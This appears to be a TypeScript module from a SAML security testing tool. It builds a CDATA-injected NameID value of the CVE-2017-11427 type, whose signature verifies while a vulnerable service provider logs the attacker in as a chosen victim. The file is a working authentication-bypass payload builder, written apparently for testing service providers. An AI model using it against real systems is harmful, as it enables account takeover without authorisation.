/*
 * NameID CDATA injection: the CDATA variant of the CVE-2017-11427 family (Kelby Ludwig, Duo Security, 2018): a
 * CDATA section splits the element's text into two nodes just as a comment does. The NameID content is
 * `<![CDATA[<victim>]]>.attacker.example`: canonical XML replaces a CDATA section by its text (xml-c14n §1.1), so
 * the signature covers "<victim>.attacker.example" and still verifies, while an SP that reads the first child
 * node of the element signs in <victim>. See ./name-id-injection.ts for the identity actually signed.
 */
import { idpError } from '../errors.ts';
import { escapeXml } from '../xml.ts';
import { INJECTION_SUFFIX } from './name-id-injection.ts';

/** The element content (markup) of a CDATA-injected NameID aimed at `victim`. */
export function cdataInjectedText(victim: string): string {
  if (victim.includes(']]>')) throw idpError('builder/invalid', 'nameIdCdataInjection: the victim cannot contain "]]>"');
  return `<![CDATA[${victim}]]>${escapeXml(INJECTION_SUFFIX)}`;
}
